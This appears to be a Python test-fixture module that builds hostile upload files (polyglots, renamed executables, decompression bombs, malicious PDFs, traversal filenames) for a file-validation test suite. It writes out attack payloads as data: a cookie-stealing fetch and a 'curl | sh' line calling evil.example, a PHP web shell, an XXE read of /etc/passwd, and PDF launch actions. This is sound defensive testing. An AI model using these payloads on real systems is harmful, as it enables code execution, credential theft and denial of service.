"""Harmful files: whom they fool elsewhere, and what must become of them here."""

import random
import struct
import zlib
from collections.abc import Iterator
from dataclasses import dataclass

from bench.strange_files.parts import (
    M4A_HEAD,
    MP3_FRAME,
    MP4_HEAD,
    archive,
    assembled,
    chunk,
    claimed_png,
    harmless,
    image,
    inserted,
    pdf,
    stream,
)

HTML = b"<!DOCTYPE html><html><body><script>alert(1)</script></body></html>"
SVG = b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><text>x</text></svg>'
XML = b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'
SCRIPT = b"fetch('//evil.example/'+document.cookie);\n"
SHELL = b"#!/bin/sh\ncurl evil.example | sh\n"
PHP = b"<?php system($_GET['c']); ?>"
EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-" + b"TEST-FILE!$H+H*"
PROGRAM = b"MZ\x90\0\3\0\0\0\4\0\0\0\xff\xff\0\0" + b"\0" * 200
ELF = b"\x7fELF\2\1\1\0" + b"\0" * 200


@dataclass(frozen=True)
class Hostile:
    """A harmful file; `is_refused` when it must not even be accepted."""

    family: str
    name: str
    content: bytes
    is_refused: bool = True

    def __str__(self) -> str:
        return f"{self.family}-{self.name[:24].encode('unicode_escape').decode()}"


def everything() -> list[Hostile]:
    """Every harmful file."""
    return [
        hostile
        for family in (
            wrong_content,
            other_kinds,
            bad_names,
            empty_and_short,
            truncated,
            polyglots,
            random_behind_magic,
            bombs,
            documents,
            broken_pictures,
            texts,
        )
        for hostile in family()
    ]


def wrong_content() -> Iterator[Hostile]:
    """Pages, programs and archives under the names of what is accepted."""
    contents = {
        "html": HTML,
        "svg": SVG,
        "xml": XML,
        "shell": SHELL,
        "php": PHP,
        "exe": PROGRAM,
        "elf": ELF,
        "zip": archive({"a.txt": b"a"}),
        "docx": archive({"[Content_Types].xml": XML, "word/document.xml": XML}),
        "gif": image("GIF"),
        "bmp": image("BMP"),
        "tiff": image("TIFF"),
        "ico": image("ICO"),
        "rtf": b"{\\rtf1\\ansi hello}",
    }
    for what, content in contents.items():
        for ending in ("jpg", "png", "webp", "pdf", "txt", "mp4"):
            yield Hostile(f"renamed-{what}", f"photo.{ending}", content)
    for ending in ("jpg", "png", "pdf", "mp3", "m4a"):
        yield Hostile("renamed-script", f"photo.{ending}", SCRIPT)
        yield Hostile("eicar", f"photo.{ending}", EICAR)


def other_kinds() -> Iterator[Hostile]:
    """What says honestly that it is not accepted."""
    endings = "html htm svg xml js exe scr bat cmd sh php docx doc xlsx odt zip rar 7z gif bmp tiff ico heic mov lnk"
    for ending in endings.split():
        yield Hostile("other-kind", f"photo.{ending}", image("JPEG"))
    yield Hostile("double-ending", "photo.jpg.exe", PROGRAM)
    yield Hostile("double-ending", "photo.jpg.html", HTML)
    yield Hostile("double-ending", "page.html.jpg", HTML)
    yield Hostile("no-ending", "photo", image("JPEG"))
    yield Hostile("no-ending", "jpg", image("JPEG"))
    yield Hostile("no-ending", "photo.", image("JPEG"))
    for name, content in harmless().items():
        wrong = "photo.png" if not name.endswith("png") else "photo.jpg"
        yield Hostile("wrong-ending", wrong, content)


def bad_names() -> Iterator[Hostile]:
    """Names that want to be paths or to be read the other way round; and long ones, which harm nobody."""
    names = [
        "../../etc/passwd.jpg",
        "..\\..\\windows\\evil.jpg",
        "/etc/cron.d/evil.jpg",
        "C:\\evil.jpg",
        "photo.jpg\0.exe",
        "photo\0.jpg",
        "photo\u202egpj.exe.jpg",
        "\u2066photo\u2069.jpg",
        "photo\n.jpg",
        "photo\r\nX-Injected: yes.jpg",
        "photo\x1b[2J.jpg",
        "photo\ud800.jpg",
        "./photo.jpg",
        "",
    ]
    for name in names:
        yield Hostile("bad-name", name, image("JPEG"))
    for name in ["a" * 4_000 + ".jpg", ".jpg", "%2e%2e%2fphoto.jpg", "<script>.jpg", "photo;a=b.jpg", "CON.jpg"]:
        yield Hostile("strange-name", name, image("JPEG"), is_refused=False)


def empty_and_short() -> Iterator[Hostile]:
    """Nothing, or only the first bytes."""
    for name, content in harmless().items():
        yield Hostile("empty", name, b"")
        if not name.endswith("txt"):
            yield Hostile("first-byte", name, content[:1])
            yield Hostile("first-three", name, content[:3])


def truncated() -> Iterator[Hostile]:
    """Files that break off."""
    for name in ("a.jpg", "b.png", "c.webp", "d.pdf"):
        content = harmless()[name]
        for share in (0.5, 0.9):
            yield Hostile(f"truncated-{share}", name, content[: int(len(content) * share)], is_refused=False)


def polyglots() -> Iterator[Hostile]:
    """Two kinds in one file."""
    script = b"GIF89a=1;alert(1)//" + b"\0" * 32
    yield Hostile("polyglot-gif-js", "photo.gif", script)
    yield Hostile("polyglot-gif-js", "photo.jpg", script)
    yield Hostile("polyglot-pdf-html", "scan.pdf", b"%PDF-1.4\n" + HTML + pdf())
    yield Hostile("polyglot-html-pdf", "scan.pdf", HTML + pdf())
    yield Hostile("polyglot-junk-pdf", "scan.pdf", b"\0" * 16 + pdf())
    yield Hostile("polyglot-jpeg-html", "photo.jpg", b"\xff\xd8\xff\xfe\x00\x50" + HTML + image("JPEG")[2:])
    yield Hostile("polyglot-png-php", "photo.png", inserted(image("PNG"), chunk(b"tEXt", b"a\0" + PHP)))
    yield Hostile("polyglot-bmp-js", "photo.png", b"BM=1;alert(1)" + b"\0" * 40)
    yield Hostile("polyglot-pdf-exe", "scan.pdf", PROGRAM + pdf())
    for name, content in harmless().items():
        if name[-3:] in {"jpg", "png", "ebp", "pdf"}:
            yield Hostile("polyglot-zip-behind", name, content + archive({"evil.html": HTML}), is_refused=False)
            yield Hostile("polyglot-html-behind", name, content + b"\0" * 2048 + HTML, is_refused=False)


def random_behind_magic() -> Iterator[Hostile]:
    """The right beginning, then noise."""
    chance = random.Random(7)
    noise = chance.randbytes(3_000)
    yield Hostile("noise", "a.jpg", b"\xff\xd8\xff\xe0" + noise, is_refused=False)
    yield Hostile("noise", "b.png", image("PNG")[:33] + noise, is_refused=False)
    yield Hostile("noise", "c.webp", b"RIFF\xb0\x0b\0\0WEBPVP8 " + noise, is_refused=False)
    yield Hostile("noise", "d.pdf", b"%PDF-1.7\n" + noise, is_refused=False)
    yield Hostile("noise", "e.txt", noise)
    yield Hostile("noise", "f.m4a", M4A_HEAD + noise, is_refused=False)
    yield Hostile("noise", "g.mp3", MP3_FRAME[:4] + noise, is_refused=False)
    yield Hostile("noise", "h.mp4", MP4_HEAD + noise, is_refused=False)
    yield Hostile("noise-short-magic", "b.png", b"\x89PNG\r\n\x1a\n" + noise)
    yield Hostile("noise-version", "d.pdf", b"%PDF-9.9\n" + noise)
    yield Hostile("noise-brand", "h.mp4", b"\0\0\0\x20ftypevil" + noise)
    yield Hostile("noise-heic", "a.jpg", b"\0\0\0\x20ftypheic" + noise)


def bombs() -> Iterator[Hostile]:
    """Small files that claim or become something huge."""
    for ending in ("docx", "zip", "png", "pdf"):
        yield Hostile("bomb-zip", f"bomb.{ending}", archive({"0": b"\0" * 10_000_000}))
    for sides in [(50_000, 50_000), (2**31 - 1, 2**31 - 1), (2**31 - 1, 1), (1, 2**31 - 1), (40_000, 1_001)]:
        yield Hostile(f"bomb-png-{sides[0]}x{sides[1]}", "bomb.png", claimed_png(*sides), is_refused=False)
    yield Hostile("bomb-png-0", "bomb.png", claimed_png(0, 100))
    large = bytearray(image("JPEG"))
    frame = large.index(b"\xff\xc0")
    large[frame + 5 : frame + 9] = b"\xff\xff\xff\xff"
    yield Hostile("bomb-jpeg", "bomb.jpg", bytes(large), is_refused=False)
    text = zlib.compress(b"A" * 80_000_000, 9)
    yield Hostile("bomb-ztxt", "bomb.png", inserted(image("PNG"), chunk(b"zTXt", b"a\0\0" + text)), is_refused=False)
    yield Hostile("bomb-iccp", "bomb.png", inserted(image("PNG"), chunk(b"iCCP", b"a\0\0" + text)), is_refused=False)
    yield Hostile("bomb-pdf-flate", "bomb.pdf", _flate_bomb(), is_refused=False)
    yield Hostile("bomb-pdf-page", "bomb.pdf", pdf(page=b"/MediaBox [0 0 1e9 1e9]"), is_refused=False)
    yield Hostile("bomb-pdf-flat-page", "bomb.pdf", pdf(page=b"/MediaBox [0 0 1 1000000]"), is_refused=False)
    yield Hostile("bomb-pdf-count", "bomb.pdf", pdf().replace(b"/Count 1", b"/Count 999999999"), is_refused=False)


def _flate_bomb() -> bytes:
    spaces = zlib.compress(zlib.compress(b" " * 100_000_000, 9), 9)
    return pdf(
        objects={4: stream(spaces, b"/Filter [/FlateDecode /FlateDecode]")},
    )


def documents() -> Iterator[Hostile]:
    """PDF documents that act, carry something, or lead a reader in circles."""
    entries = {
        "javascript": b"/OpenAction << /S /JavaScript /JS (app.alert(1)) >>",
        "launch": b"/OpenAction << /S /Launch /F (/bin/sh) >>",
        "uri": b"/OpenAction << /S /URI /URI (http://evil.example/) >>",
        "submit": b"/OpenAction << /S /SubmitForm /F (http://evil.example/) >>",
        "embedded": b"/Names << /EmbeddedFiles << /Names [(a.exe) 10 0 R] >> >>",
        "associated": b"/AF [10 0 R]",
        "xfa": b"/AcroForm << /XFA 11 0 R >>",
    }
    attached = {
        10: b"<< /Type /Filespec /F (a.exe) /EF << /F 11 0 R >> >>",
        11: stream(PROGRAM, b"/Type /EmbeddedFile"),
    }
    for what, entry in entries.items():
        yield Hostile(f"pdf-{what}", "scan.pdf", pdf(catalog=entry, objects=attached), is_refused=False)
    nested = b"[" * 20_000 + b"]" * 20_000
    yield Hostile("pdf-nested", "scan.pdf", pdf(catalog=b"/A " + nested), is_refused=False)
    circle = assembled({1: b"<< /Type /Catalog /Pages 2 0 R >>", 2: b"<< /Type /Pages /Kids [2 0 R] /Count 1 >>"})
    yield Hostile("pdf-circle", "scan.pdf", circle, is_refused=False)
    yield Hostile("pdf-form-in-itself", "scan.pdf", _form_in_itself(), is_refused=False)
    yield Hostile("pdf-outside-file", "scan.pdf", _outside_file(), is_refused=False)
    yield Hostile("pdf-no-pages", "scan.pdf", b"%PDF-1.7\n%%EOF\n", is_refused=False)
    yield Hostile("pdf-length-lies", "scan.pdf", pdf().replace(b"/Length 3", b"/Length 99999993"), is_refused=False)
    yield Hostile("pdf-root-lies", "scan.pdf", pdf().replace(b"/Root 1 0 R", b"/Root 4 0 R"), is_refused=False)
    yield Hostile("pdf-encrypt-lies", "scan.pdf", pdf().replace(b"/Root", b"/Encrypt 3 0 R /Root"), is_refused=False)


def _form_in_itself() -> bytes:
    form = stream(
        b"/F Do /F Do", b"/Type /XObject /Subtype /Form /BBox [0 0 9 9] /Resources << /XObject << /F 10 0 R >> >>"
    )
    return pdf(objects={10: form}, page=b"/Resources << /XObject << /F 10 0 R >> >>", drawing=b"/F Do")


def _outside_file() -> bytes:
    """A stream whose content stands in a file of the machine."""
    return pdf(objects={4: b"<< /Length 0 /F (/etc/passwd) >>\nstream\n\nendstream"})


def broken_pictures() -> Iterator[Hostile]:
    """Pictures whose numbers lie."""
    png = image("PNG")
    yield Hostile("png-no-end", "b.png", png[:-12], is_refused=False)
    yield Hostile("png-bad-sum", "b.png", png[:29] + b"\0\0\0\0" + png[33:], is_refused=False)
    yield Hostile("png-long-chunk", "b.png", inserted(png, b"\x7f\xff\xff\xfftEXt"), is_refused=False)
    yield Hostile("png-many-chunks", "b.png", inserted(png, *[chunk(b"tEXt", b"a\0b")] * 5_000), is_refused=False)
    yield Hostile("png-apng", "b.png", inserted(png, chunk(b"acTL", struct.pack(">II", 10**9, 0))), is_refused=False)
    jpeg = image("JPEG")
    exif = b"Exif\0\0II*\0\xff\xff\xff\xff" + b"\xff" * 64
    yield Hostile("jpeg-exif-lies", "a.jpg", _with_segment(jpeg, 0xE1, exif), is_refused=False)
    circle = b"Exif\0\0II*\0\x08\0\0\0\x01\0\x69\x87\x04\0\x01\0\0\0\x08\0\0\0\x08\0\0\0"
    yield Hostile("jpeg-exif-circle", "a.jpg", _with_segment(jpeg, 0xE1, circle), is_refused=False)
    yield Hostile("jpeg-mpo-lies", "a.jpg", _with_segment(jpeg, 0xE2, b"MPF\0" + b"\xff" * 64), is_refused=False)
    yield Hostile("jpeg-icc-lies", "a.jpg", _with_segment(jpeg, 0xE2, b"ICC_PROFILE\0\x09\x02" + b"\0" * 64), False)
    yield Hostile("jpeg-only-scan", "a.jpg", b"\xff\xd8\xff\xda" + b"\0" * 64)
    yield Hostile("webp-size-lies", "c.webp", b"RIFF\xff\xff\xff\xff" + image("WEBP")[8:], is_refused=False)
    yield Hostile("webp-vp8x", "c.webp", b"RIFF\x16\0\0\0WEBPVP8X\x0a\0\0\0\xff" + b"\xff" * 9, is_refused=False)


def _with_segment(jpeg: bytes, marker: int, body: bytes) -> bytes:
    return jpeg[:2] + bytes([0xFF, marker]) + struct.pack(">H", len(body) + 2) + body + jpeg[2:]


def texts() -> Iterator[Hostile]:
    """Text that is none, and text that stays text whatever stands in it."""
    yield Hostile("text-nul", "e.txt", b"before\0after")
    yield Hostile("text-escape", "e.txt", b"before\x1b]0;title\x07after")
    yield Hostile("text-no-encoding", "e.txt", b"before \x98 after")
    yield Hostile("text-overlong", "e.txt", b"\xc0\xaf\xc0\xae" * 9, is_refused=False)
    yield Hostile("text-utf-16-odd", "e.txt", b"\xff\xfea\0b")
    yield Hostile("text-utf-16-surrogate", "e.txt", b"\xff\xfe\x00\xd8a\0")
    yield Hostile("text-utf-16-html", "e.txt", b"\xff\xfe" + HTML.decode().encode("utf-16-le"))
    yield Hostile("text-late-nul", "e.txt", b"a" * 9_000 + b"\0")
    yield Hostile("text-script", "e.txt", SCRIPT, is_refused=False)
    yield Hostile("text-eicar", "e.txt", EICAR, is_refused=False)
    yield Hostile("text-late-html", "e.txt", b"Dear all,\n" + HTML, is_refused=False)
    yield Hostile("text-bidi", "e.txt", "safe \u202eelif\u202c".encode(), is_refused=False)
